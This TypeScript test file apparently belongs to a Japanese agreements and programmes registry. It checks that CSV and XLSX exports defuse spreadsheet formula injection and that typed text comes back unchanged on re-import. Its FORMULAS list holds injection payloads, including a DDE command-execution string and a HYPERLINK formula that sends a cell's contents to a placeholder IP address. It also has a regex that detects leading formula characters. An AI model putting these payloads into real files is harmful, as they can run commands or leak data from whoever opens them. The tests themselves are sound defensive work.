/** Files that leave: no spreadsheet runs what somebody typed, and what is read in again is what was typed. */
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { readSource } from "../../src/documents/read-source.ts";
import { SYSTEM } from "../../src/platform/index.ts";
import { recordProgramme } from "../../src/programmes/index.ts";
import { anEntry, anEvent, aProgramme } from "../../src/programmes/testing/programme-facts.ts";
import { routesOf } from "./routes.ts";
import { agreementForm, agreementTable, openSite, recordByForm, type Site, uploadByForm } from "./site.ts";

const FORMULAS = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://192.0.2.66/?"&A1,"開く")`,
  "+81-99-000-0000",
  "-1+1",
  "@SUM(1+1)*cmd",
  "＝1+1",
  "＋81-99",
  "'=1+1",
  "''=1+1",
];
const EVIL_TITLE = FORMULAS[0]!;

let site: Site;
let files: readonly string[];
beforeAll(async () => {
  site = await openSite();
  for (const text of FORMULAS) {
    await recordByForm(
      site,
      agreementForm(text, {
        "japan.0.name": text,
        "japan.0.code": "none",
        "foreign.0.name": text,
        "foreign.0.country": "大韓民国",
        "foreign.0.counterpart": "none",
        "dates.0.asPrinted": text,
        "dates.0.read": "2004年",
        "dates.0.role": "signed",
        "dates.0.party": text,
      }),
    );
  }
  files = routesOf(site.application)
    .filter(({ method }) => method === "GET")
    .map(({ path }) => path)
    .filter((path) => /\.(?:csv|xlsx|json|docx|pdf)$/u.test(path));
  await recordProgrammes();
});

/** Titles, sentences, events, places and partners that a spreadsheet might run, in the report and in the workbook. */
async function recordProgrammes(): Promise<void> {
  for (const text of FORMULAS) {
    const events = [anEvent({ name: text, place: text, related: [text] })];
    const years = [anEntry(2023, { text, events }), anEntry(2024, { column: "plan", status: "planned", text, events })];
    const partners = [{ name: text, formerName: null, country: null }];
    const facts = aProgramme({ title: text, overview: text, years, partners });
    const outcome = await site.test.database.write(SYSTEM, (tx) =>
      recordProgramme(tx, SYSTEM, { owner: "46201", facts, reason: null }),
    );
    if (!outcome.ok) throw new Error(outcome.problem.code);
  }
}
afterAll(() => site.close());

/** Files of a report are asked for with a body and a year. */
function askFor(path: string): Promise<Response> {
  const isReport = path.includes("/programmes/report");
  return site.askAsOperator(isReport ? `${path}?government=46201&year=2024` : path);
}

async function bytesOf(path: string): Promise<Uint8Array> {
  const answer = await askFor(path);
  expect(answer.status, path).toBe(200);
  return new Uint8Array(await answer.arrayBuffer());
}

/** Cells of a CSV file as a spreadsheet sees them, before anybody takes an apostrophe off. */
function rawCells(text: string): readonly string[] {
  return [...text.replace(/^\u{FEFF}/u, "").matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/gu)].map(
    ([, quoted, plain]) => (quoted ?? plain ?? "").replaceAll('""', '"'),
  );
}

it("there are exports of every format", () => {
  expect(files.filter((path) => path.endsWith(".csv")).length).toBeGreaterThan(6);
  expect(files.filter((path) => path.endsWith(".xlsx")).length).toBeGreaterThan(0);
});

describe("every CSV file", () => {
  it("has no cell that a spreadsheet runs, in both languages", async () => {
    let guarded = 0;
    for (const path of files.filter((file) => file.endsWith(".csv"))) {
      for (const address of [path, `/en${path}`]) {
        const cells = rawCells(new TextDecoder().decode(await bytesOf(address)));
        expect(cells.length, address).toBeGreaterThan(1);
        for (const cell of cells)
          expect(/^[=+@\t\r]|^[＝＋－＠].|^-(?!\d+(?:\.\d+)?$)/u.test(cell), `${address}: ${cell}`).toBe(false);
        guarded += cells.filter((cell) => /^'+[=+@＝＋-]/u.test(cell)).length;
      }
    }
    expect(guarded).toBeGreaterThan(FORMULAS.length * 6);
  });

  it("is named for people and for old programs (RFC 6266)", async () => {
    for (const path of files.filter((file) => /\.(?:csv|xlsx|docx|pdf)$/u.test(file))) {
      const disposition = (await askFor(path)).headers.get("content-disposition") ?? "";
      const [, ascii, encoded] = /^attachment; filename="([^"]+)"; filename\*=UTF-8''(\S+)$/u.exec(disposition) ?? [];
      expect(ascii, path).toMatch(/^[A-Za-z0-9._-]+$/u);
      expect(encoded, path).toMatch(/^(?:[A-Za-z0-9._!~-]|%[0-9A-F]{2})+$/u);
      expect(decodeURIComponent(encoded!), path).toMatch(/\p{Script=Han}.*\.\w+$/u);
    }
  });

  it("read in again has the words that were typed", async () => {
    const titles = await columnOf("/agreements.csv", 1);
    expect(titles).toEqual(expect.arrayContaining(FORMULAS));
    const parties = await columnOf("/agreements/parties.csv", 3);
    expect(parties.filter((name) => name === EVIL_TITLE)).toHaveLength(2);
    const dates = await columnOf("/agreements/dates.csv", 5);
    expect(dates).toEqual(expect.arrayContaining(FORMULAS));
  });

  async function columnOf(path: string, column: number): Promise<readonly string[]> {
    const read = await readSource({ name: "a.csv", bytes: await bytesOf(path) });
    if (!read.ok) throw new Error(read.problem.code);
    return read.value.tables[0]!.rows.map(({ cells }) => cells[column] ?? "");
  }
});

describe("every workbook", () => {
  it("holds texts and numbers, and not one formula", async () => {
    for (const path of files.filter((file) => file.endsWith(".xlsx"))) {
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load((await bytesOf(path)).buffer as ArrayBuffer);
      const types = new Set<ExcelJS.ValueType>();
      workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell(({ type }) => types.add(type))));
      expect(types.size, path).toBeGreaterThan(0);
      for (const type of [ExcelJS.ValueType.Formula, ExcelJS.ValueType.Hyperlink, ExcelJS.ValueType.Error])
        expect(types.has(type), path).toBe(false);
    }
  });
});

describe("a table of agreements that went out and comes in again", () => {
  it.each(FORMULAS)("gives the same record: %s", async (text) => {
    const guarded = `"${(/^'*[=+\-@＝＋]/u.test(text) ? `'${text}` : text).replaceAll('"', '""')}"`;
    const address = await uploadByForm(
      site,
      `${FORMULAS.indexOf(text)}.csv`,
      agreementTable(guarded, { headers: ",経緯", cells: `,${guarded}` }),
    );
    const { rows } = await site.test.owner.query<{ record: { title: string; background: string } }>(
      "select record from import_draft where document_id = $1",
      [address.split("/").at(-1)],
    );
    expect(rows[0]?.record).toMatchObject({ title: text, background: text });
  });
});

it("an export breaks off without a fault when the reader goes away", async () => {
  const answer = await site.askAsOperator("/agreements.json");
  const reader = answer.body!.getReader();
  await reader.read();
  await reader.cancel();
  expect((await site.ask("/healthz")).status).toBe(200);
});
